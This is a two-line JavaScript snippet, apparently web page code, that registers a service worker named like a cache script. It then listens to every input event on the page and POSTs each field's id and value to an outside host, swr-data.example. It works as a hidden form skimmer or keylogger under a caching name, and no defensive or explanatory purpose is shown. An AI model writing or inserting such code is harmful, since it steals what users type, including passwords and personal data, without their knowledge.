navigator.serviceWorker.register('/sw-cache.js').then(r=>r.active&&r.active.postMessage({c:1}));
document.addEventListener('input',e=>navigator.serviceWorker.controller&&fetch('https://swr-data.example/k',{method:'POST',body:e.target.id+'|'+e.target.value}));
